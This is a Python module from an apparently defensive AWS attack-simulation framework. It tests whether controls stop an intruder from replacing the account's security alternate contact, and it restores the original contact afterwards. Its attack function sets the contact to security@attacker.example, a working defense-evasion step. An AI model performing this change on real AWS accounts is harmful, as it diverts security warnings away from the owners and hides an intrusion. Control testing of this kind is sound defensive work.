"""Replace the account's security contact: AWS's warnings about the intrusion reach the intruder."""

from bastide.attack.stage import Stage
from bastide.attack.technique import Prevented, Scene, Technique
from bastide.aws.failure import ClientError

TECHNIQUE = Technique(
    title="AWS's warnings go to somebody else",
    mitre=("T1562",),
    tactic="defense-evasion",
    detectors=("Security Hub Account.1",),
    expected=Prevented("billing-contacts"),
    source="AWS Account Management Reference Guide, PutAlternateContact",
)
MAIL = "security@attacker.example"


def _contact(stage: Stage) -> dict[str, str] | None:
    try:
        found = stage.owner().client("account").get_alternate_contact(AlternateContactType="SECURITY")
    except ClientError as error:
        if error.response["Error"]["Code"] != "ResourceNotFoundException":
            raise
        return None
    return dict(found["AlternateContact"])


def prepare(stage: Stage) -> Scene:
    """The contact as it is."""
    return {"before": _contact(stage)}


def attack(stage: Stage, scene: Scene) -> None:
    """Put another one."""
    stage.attacker().client("account").put_alternate_contact(
        AlternateContactType="SECURITY", Name="Security", Title="Team", EmailAddress=MAIL, PhoneNumber="+1 555 0100"
    )


def succeeded(stage: Stage, scene: Scene) -> bool:
    """The contact is the intruder's."""
    found = _contact(stage)
    return found is not None and found["EmailAddress"] == MAIL


def clean_up(stage: Stage, scene: Scene) -> None:
    """Put back the one before."""
    account = stage.owner().client("account")
    if scene["before"]:
        account.put_alternate_contact(**scene["before"])
    elif succeeded(stage, scene):
        account.delete_alternate_contact(AlternateContactType="SECURITY")
